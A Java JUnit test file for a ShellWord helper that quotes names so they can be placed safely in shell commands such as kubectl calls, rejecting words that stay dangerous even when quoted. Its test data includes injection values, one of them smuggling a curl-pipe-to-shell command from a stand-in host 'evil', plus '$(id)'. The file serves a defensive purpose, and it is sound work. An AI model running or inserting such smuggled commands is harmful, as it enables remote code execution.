package dev.sluice.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What others call their objects is one word for a shell, or no command is shown. */
class ShellWordTest {

    @Test
    void aPlainWordStaysAsItIs() {
        assertThat(ShellWord.of("team-a/web-1.0_b")).hasValue("team-a/web-1.0_b");
    }

    @ParameterizedTest
    @ValueSource(strings = {"t;curl evil|sh #", "$(id)", "a=b", "~root", "a b", "ü", "*"})
    void everyOtherWordIsQuoted(String word) {
        assertThat(ShellWord.of(word)).hasValue("'" + word + "'");
    }

    @Test
    void aQuoteEndsNoQuotedWord() {
        assertThat(ShellWord.of("a'b")).hasValue("'a'\\''b'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "-x", "--all", "a\u001b[2J", "a\nb", "\u202ea"})
    void aWordThatStaysDangerousInQuotesGivesNoCommand(String word) {
        assertThat(ShellWord.of(word)).isEmpty();
        assertThat(ShellWord.command("kubectl get pod %s -n %s", "p", word)).isEmpty();
    }

    @Test
    void aCommandHasItsWordsQuoted() {
        assertThat(ShellWord.command("kubectl get pod %s -n %s", "p", "a b")).hasValue("kubectl get pod p -n 'a b'");
    }
}
